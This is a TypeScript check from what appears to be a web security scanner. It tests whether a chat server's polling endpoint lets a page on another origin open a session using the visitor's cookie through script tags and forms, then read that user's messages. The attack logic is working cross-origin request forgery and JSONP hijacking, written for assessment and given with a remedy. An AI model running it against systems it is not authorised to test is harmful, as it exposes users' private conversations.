import { defineAttack } from '../../attack.ts'
import { inconclusive, resisted, vulnerable } from '../../judge.ts'
import { asScript } from '../../kit/as-script.ts'
import { control, openWitness } from '../../kit/attempt.ts'

export default defineAttack({
  id: 'origin/jsonp-csrf',
  rows: ['origin.jsonp-csrf'],
  title: 'A page of another origin opens a session by script tags and forms, with the cookie of its visitor',
  requirement: 'ASVS V3.5.6 and V3.5.1: no JSONP, and nothing is done on the word of a cookie alone',
  impact: 'The page reads all messages of its visitor as a script: CORS is not asked, and no Origin is sent.',
  remedy:
    'Refuse handshakes with a j parameter and, where a cookie is the credential, those without an Origin; SameSite.',
  severity: 'high',
  cwe: ['CWE-352'],
  references: ['ASVS V3.5.6', 'ASVS V3.5.1'],
  provenBy: 'origin-missing-ok',
  disclosure: true,
  needs: ['cookieToken', 'polling'],
  effect: 'write',
  holds: 'account',
  async run(context) {
    const { victim, target, settleMs } = context
    const witness = await openWitness(context)
    const opened = await asScript(context, victim.token)
    if (typeof opened === 'string') {
      context.note('received', `a handshake as a script: ${opened}`)
      const last = await control(context, 'the cookie of a page that is allowed', witness)
      return resisted(last.observation, context.evidence)
    }
    const { namespace, chat } = target.profile
    const end = performance.now() + 2 * settleMs
    const connected = await opened.form(opened.connectPacket)
    let read = await opened.script()
    if (chat.join !== undefined)
      await opened.form(`42${JSON.stringify([chat.join.event, ...target.fill(chat.join.args, { room: chat.room })])}`)
    const said = context.canary()
    witness.say(said)
    while (!read.includes(said) && performance.now() < end) read += await opened.script()
    context.note('received', `CONNECT to ${namespace} by a form: HTTP ${connected}`)
    context.note('received', `a message of another user ${read.includes(said) ? 'is read as a script' : 'is not read'}`)
    const last = await control(context, 'the cookie of a page that is allowed', witness)
    if (read.includes(said)) return vulnerable(context.evidence)
    return connected < 400
      ? inconclusive('connected, but nothing was read')
      : resisted(last.observation, context.evidence)
  },
})
